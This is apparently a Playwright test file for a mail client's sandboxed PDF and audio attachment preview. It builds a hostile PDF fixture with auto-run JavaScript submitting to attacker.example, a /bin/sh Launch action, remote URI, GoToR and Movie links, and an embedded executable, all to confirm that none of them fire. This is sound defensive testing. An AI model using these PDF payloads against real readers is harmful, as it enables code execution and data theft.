/**
 * Goal: PDFs and sound are looked at without leaving the window, and are as harmless as mail.
 * Method: PDFs with every action that could do something, drawn in the real window while everything
 * is watched; their frame is one of another process, without a bridge; a tone is played.
 */

import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, type Page, test } from '@playwright/test';
import { CANARY } from '../attacks/attack.ts';
import { attached, letter } from '../support/letters-to-show.ts';
import { pages, type PdfObject, pdfOf } from '../support/pdf.ts';
import { au, longWave, wave } from '../support/sounds.ts';
import { openWatched, type Watched } from '../support/watched-window.ts';
import { workFolder } from '../support/window.ts';

const SCRIPT = `/S/JavaScript/JS(app.alert\\("${CANARY}"\\);this.submitForm\\("http://attacker.example/js"\\);)`;

/** Everything by which a PDF does something of itself, or when it is touched. */
const hostile = pages(
  3,
  `/OpenAction<<${SCRIPT}>>/AA<</WC<<${SCRIPT}>>/DS<</S/URI/URI(http://attacker.example/aa)>>>>` +
    `/Names<</JavaScript<</Names[(a)<<${SCRIPT}>>]>>/EmbeddedFiles<</Names[(x.exe)<</Type/Filespec/F(x.exe)>>]>>>>` +
    '/AcroForm<</NeedAppearances true/XFA(<a href="http://attacker.example/xfa"/>)>>',
  `/AA<</O<<${SCRIPT}>>>>/Annots[` +
    '<</Type/Annot/Subtype/Link/Rect[0 0 400 500]/A<</S/URI/URI(http://attacker.example/link)>>>>' +
    `<</Type/Annot/Subtype/Link/Rect[0 0 400 500]/A<<${SCRIPT}>>>>` +
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(/bin/sh)/NewWindow true>>>>' +
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F<</FS/URL/F(http://attacker.example/gotor)>>/D[0/Fit]>>>>' +
    '<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]/Movie<</F<</FS/URL/F(http://attacker.example/movie)>>>>>>]',
);

/** A picture and a font that lie elsewhere, a code table that is not there. */
const elsewhere = pdfOf([
  { dictionary: '/Type/Catalog/Pages 2 0 R' },
  { dictionary: '/Type/Pages/Count 1/Kids[3 0 R]' },
  {
    dictionary:
      '/Type/Page/Parent 2 0 R/MediaBox[0 0 400 500]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>/Font<</F 6 0 R>>>>',
  },
  { dictionary: '', stream: 'q 100 0 0 100 0 0 cm /I Do Q BT /F 20 Tf 50 300 Td <00410042> Tj ET' },
  {
    dictionary:
      '/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F<</FS/URL/F(http://attacker.example/i)>>',
    stream: 'x',
  },
  {
    dictionary:
      '/Type/Font/Subtype/Type0/BaseFont/Foreign/Encoding/UniGB-UCS2-H/DescendantFonts[7 0 R]',
  },
  {
    dictionary:
      '/Type/Font/Subtype/CIDFontType0/BaseFont/Foreign/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 0>>',
  },
]);

/** A font that is not in the PDF, for the characters of a collection, by the codes of a table. */
function easternFont(number: number, name: string, ordering: string, table: string): PdfObject[] {
  return [
    {
      dictionary: `/Type/Font/Subtype/Type0/BaseFont/${name}/Encoding/${table}/DescendantFonts[${number + 1} 0 R]`,
    },
    {
      dictionary:
        `/Type/Font/Subtype/CIDFontType0/BaseFont/${name}/DW 1000/FontDescriptor ${number + 2} 0 R` +
        `/CIDSystemInfo<</Registry(Adobe)/Ordering(${ordering})/Supplement 2>>`,
    },
    {
      dictionary: `/Type/FontDescriptor/FontName/${name}/Flags 6/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80`,
    },
  ];
}

/** Three characters of Japanese and two of Chinese by tables that the PDF only names, as old ones do. */
const eastern = pdfOf([
  { dictionary: '/Type/Catalog/Pages 2 0 R' },
  { dictionary: '/Type/Pages/Count 1/Kids[3 0 R]' },
  {
    dictionary:
      '/Type/Page/Parent 2 0 R/MediaBox[0 0 400 500]/Contents 4 0 R/Resources<</Font<</J 5 0 R/C 8 0 R>>>>',
  },
  {
    dictionary: '',
    stream: 'BT /J 40 Tf 40 400 Td <93fa967b8cea> Tj ET BT /C 40 Tf 40 300 Td <d6d0cec4> Tj ET',
  },
  ...easternFont(5, 'Ryumin-Light', 'Japan1', '90ms-RKSJ-H'),
  ...easternFont(8, 'STSong-Light', 'GB1', 'GB-EUC-H'),
]);

const files: readonly (readonly [string, string, Buffer])[] = [
  ['letter.pdf', 'application/pdf', pages(40)],
  ['hostile.pdf', 'application/pdf', hostile],
  ['elsewhere.pdf', 'application/pdf', elsewhere],
  ['broken.pdf', 'application/pdf', Buffer.from('%PDF-1.4 nothing\n'.repeat(90))],
  ['eastern.pdf', 'application/pdf', eastern],
  ['tone.wav', 'audio/x-wav', wave()],
  ['greeting.au', 'audio/basic', au()],
];

const FRAME = letter(
  'Dora',
  'To look at',
  'Content-Type: multipart/mixed; boundary=B\n\n--B\nContent-Type: text/plain\n\nHere.\n\n',
).trimEnd();
const MESSAGE = `${FRAME}\n\n${files.map((file) => attached(...file)).join('')}--B--\n\n`;

async function open(message = MESSAGE): Promise<Watched & { readonly page: Page }> {
  const folder = workFolder();
  const file = path.join(folder, 'letters.mbox');
  writeFileSync(file, message);
  const watched = await openWatched([file], { folder });
  await expect.poll(watched.window.rows, { timeout: 30_000 }).toBe(1);
  await watched.window.row(1).click();
  await watched.window.page.locator('article[data-shown=true]').waitFor();
  return { ...watched, page: watched.window.page };
}

/** Opens the preview of an attachment, which a person closes with "Done". */
async function lookAt(page: Page, name: string): Promise<void> {
  const list = page.getByRole('list', { name: 'Attachments' });
  const item = list.getByRole('listitem').filter({ hasText: name });
  await item.getByRole('button', { name }).click();
  await item.getByRole('button', { name: 'Preview' }).click();
  await page.getByRole('dialog', { name }).waitFor();
}

async function done(page: Page, name: string): Promise<void> {
  await page.getByRole('button', { name: 'Done' }).click();
  await page.getByRole('dialog', { name }).waitFor({ state: 'detached' });
  const list = page.getByRole('list', { name: 'Attachments' });
  await list.getByRole('button', { name, expanded: true }).click();
}

test('a PDF is drawn page by page, in a process of its own', async () => {
  const watched = await open();
  const { page, window } = watched;
  await lookAt(page, 'letter.pdf');
  const frame = page.frameLocator('iframe.preview-pdf');
  const first = frame.getByRole('img', { name: 'Page 1 of 40' });
  await expect(first).toHaveAttribute('data-drawn', 'true');
  // Red where the page is red, white where it is empty.
  const colours = await first.locator('canvas').evaluate((element) => {
    const canvas = element as HTMLCanvasElement;
    const context = canvas.getContext('2d');
    const at = (x: number, y: number): string =>
      String(context?.getImageData(canvas.width * x, canvas.height * y, 1, 1).data);
    return [at(0.1, 0.1), at(0.9, 0.9)];
  });
  expect(colours).toEqual(['255,0,0,255', '255,255,255,255']);
  await window.picture('preview-pdf-light');

  const last = frame.getByRole('img', { name: 'Page 40 of 40' });
  expect(await last.locator('canvas').count()).toBe(0);
  await last.scrollIntoViewIfNeeded();
  await expect(last).toHaveAttribute('data-drawn', 'true');
  await expect(first.locator('canvas')).toHaveCount(0);

  const processes = await window.app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().flatMap(({ webContents }) =>
      webContents.mainFrame.framesInSubtree.map(({ url, osProcessId }) => ({ url, osProcessId })),
    ),
  );
  const viewer = processes.find(({ url }) => url === 'mailkeep-pdf://viewer/');
  const others = processes.filter((one) => one !== viewer).map(({ osProcessId }) => osProcessId);
  expect(others.length).toBeGreaterThan(0);
  expect(others).not.toContain(viewer?.osProcessId);
  const has = await frame.locator('body').evaluate(() => ({
    bridge: 'mailkeep' in globalThis || 'bridge' in globalThis || 'require' in globalThis,
    origin: globalThis.origin,
  }));
  expect(has).toEqual({ bridge: false, origin: 'null' });
  // A text that is to become a script, where the test's own evaluation does not reach.
  const ran = await frame.locator('body').evaluate(async () => {
    const text = 'document.body.dataset.ran = "yes"';
    try {
      setTimeout(text as unknown as () => void);
    } catch {
      return 'refused';
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
    return document.body.dataset['ran'] ?? 'refused';
  });
  expect(ran).toBe('refused');
  await done(page, 'letter.pdf');
  await page.emulateMedia({ colorScheme: 'dark', reducedMotion: 'reduce' });
  await lookAt(page, 'letter.pdf');
  await expect(first).toHaveAttribute('data-drawn', 'true');
  await window.picture('preview-pdf-dark');
  await watched.close();
});

test('a PDF that only names the codes of its Japanese and Chinese shows them', async () => {
  const watched = await open();
  const { page, window } = watched;
  await lookAt(page, 'eastern.pdf');
  const sheet = page.frameLocator('iframe.preview-pdf').getByRole('img', { name: 'Page 1 of 1' });
  await expect(sheet).toHaveAttribute('data-drawn', 'true');
  await window.picture('preview-eastern');
  // Cells as wide as a character of these scripts in which something is drawn, in each line.
  const drawn = await sheet.locator('canvas').evaluate((canvas: HTMLCanvasElement) => {
    const point = canvas.width / 400;
    const has = (x: number, y: number): boolean => {
      const [left, top, size] = [x * point, y * point, 39 * point];
      const data = canvas.getContext('2d')?.getImageData(left, top, size, size).data ?? [];
      return Array.from(data).some((value, at) => at % 4 === 0 && value < 128);
    };
    const cells = [40, 80, 120, 160, 200, 240];
    return [68, 168].map((top) => cells.map((left) => has(left, top)));
  });
  expect(drawn).toEqual([
    [true, true, true, false, false, false],
    [true, true, false, false, false, false],
  ]);
  expect(await watched.asked()).toEqual([]);
  await watched.close();
});

test('nothing in a PDF does anything, also when it is touched', async () => {
  const watched = await open();
  const { page, window, signs } = watched;
  const frame = page.frameLocator('iframe.preview-pdf');
  for (const name of ['hostile.pdf', 'elsewhere.pdf']) {
    await lookAt(page, name);
    const sheet = frame.getByRole('img', { name: 'Page 1 of' });
    await expect(sheet).toHaveAttribute('data-drawn', 'true');
    await sheet.click({ position: { x: 30, y: 30 } });
    await sheet.click({ button: 'middle', position: { x: 60, y: 60 } });
    await window.picture(`preview-${name}`);
    await done(page, name);
  }
  await lookAt(page, 'broken.pdf');
  await expect(frame.locator('body')).toContainText('This is no PDF that can be read.');
  await done(page, 'broken.pdf');
  expect(signs.filter((sign) => sign.includes(CANARY))).toEqual([]);
  expect(await watched.asked()).toEqual([]);
  expect(watched.arrived).toEqual([]);
  const away = (await watched.went()).filter(
    (url) =>
      !/^(?:mailkeep-message:\/\/message\/\w+\/|mailkeep-pdf:\/\/viewer\/|about:blank)$/.test(url),
  );
  expect(away).toEqual([]);
  await watched.close();
});

test('sound is played, that of old mail too, and the frame does nothing else', async () => {
  const watched = await open();
  const { page, window } = watched;
  await window.app.evaluate(({ BrowserWindow }) => {
    const played: string[] = [];
    Object.assign(globalThis, { played });
    BrowserWindow.getAllWindows()[0]?.webContents.on('media-started-playing', () => {
      played.push('started');
    });
  });
  for (const [index, name] of ['tone.wav', 'greeting.au'].entries()) {
    await lookAt(page, name);
    const frame = page.locator('iframe.preview-sound');
    await expect(frame).toHaveAttribute('sandbox', '');
    await expect(async () => {
      await frame.click({ position: { x: 28, y: 27 } });
      await expect
        .poll(
          () =>
            window.app.evaluate(
              () => (globalThis as unknown as { played: string[] }).played.length,
            ),
          { timeout: 2000 },
        )
        .toBeGreaterThan(index);
    }).toPass({ timeout: 20_000 });
    await window.picture(`preview-${name}`);
    await done(page, name);
  }
  expect(await watched.asked()).toEqual([]);
  await watched.close();
});

test('a long sound is heard at once, from wherever a person likes, and is never read whole', async () => {
  const seconds = 3600;
  const sound = attached('concert.wav', 'audio/x-wav', longWave(seconds));
  const notes = attached('notes.txt', 'text/plain', Buffer.from('behind it\n'));
  const watched = await open(`${FRAME}\n\n${sound}${notes}--B--\n\n`);
  const { page } = watched;
  await lookAt(page, 'concert.wav');
  const audio = page.frameLocator('iframe.preview-sound').locator('audio');
  const heard = () =>
    audio.evaluate((element: HTMLAudioElement) => {
      const { duration, currentTime, seeking, readyState, buffered } = element;
      let loaded = 0;
      for (let at = 0; at < buffered.length; at++) loaded += buffered.end(at) - buffered.start(at);
      return { duration, currentTime, seeking, readyState, loaded };
    });
  await expect.poll(async () => (await heard()).readyState).toBeGreaterThanOrEqual(3);
  expect((await heard()).duration).toBeCloseTo(seconds, 1);
  for (const place of [3000, 100]) {
    await audio.evaluate((element: HTMLAudioElement, to) => {
      element.currentTime = to;
    }, place);
    await expect.poll(async () => (await heard()).seeking).toBe(false);
    expect((await heard()).currentTime).toBeCloseTo(place, 1);
    expect((await heard()).readyState).toBeGreaterThanOrEqual(2);
  }
  expect((await heard()).loaded).toBeLessThan(seconds / 2);
  await done(page, 'concert.wav');
  await watched.close();
});
